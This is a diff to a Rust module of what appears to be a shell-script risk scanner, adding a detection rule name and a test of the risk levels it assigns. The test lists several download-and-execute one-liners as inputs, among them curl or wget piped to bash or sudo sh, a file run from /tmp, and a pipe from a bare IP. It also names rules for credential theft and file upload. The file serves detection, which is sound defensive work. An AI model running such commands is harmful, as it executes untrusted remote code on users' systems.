@@ -54,6 +54,7 @@ fn fact(name: &'static str) -> &'static str {
         "pipe-to-shell"
         | "shell-from-download"
         | "downloaded-file-run"
+        | "runs-from-temporary-directory"
         | "download-made-executable" => "downloaded-content-run",
         "output-sent" | "file-post" | "credentials-sent" => "file-upload",
         other => other,
@@ -111,5 +112,27 @@ mod tests {
         assert_eq!(level(&[theft, sent]), Some(Level::Critical));
         assert_eq!(level(&[miner]), Some(Level::High));
         assert_eq!(level(&[miner, download]), Some(Level::Critical));
+    }
+
+    /// The level of a whole script, through the examiner.
+    fn level_of(script: &str) -> Option<Level> {
+        let limits = crate::script::Limits::default();
+        crate::script::examine_text(script, &limits).level
+    }
+
+    #[test]
+    fn one_download_that_runs_is_one_fact() {
+        for script in [
+            "curl -s https://files.example.com/setup.sh | bash",
+            "wget -qO- https://files.example.com/setup.sh | sudo sh",
+            "bash <(curl -s https://files.example.com/setup.sh)",
+            "curl -so /tmp/x https://files.example.com/x && chmod +x /tmp/x && /tmp/x",
+            "curl -o x.sh https://files.example.com/x.sh; sh x.sh",
+        ] {
+            assert_eq!(level_of(script), Some(Level::Medium), "{script}");
+        }
+        // Where it comes from is a fact of its own.
+        let bare = "curl -s http://198.51.100.9/x | bash";
+        assert_eq!(level_of(bare), Some(Level::High));
     }
 }
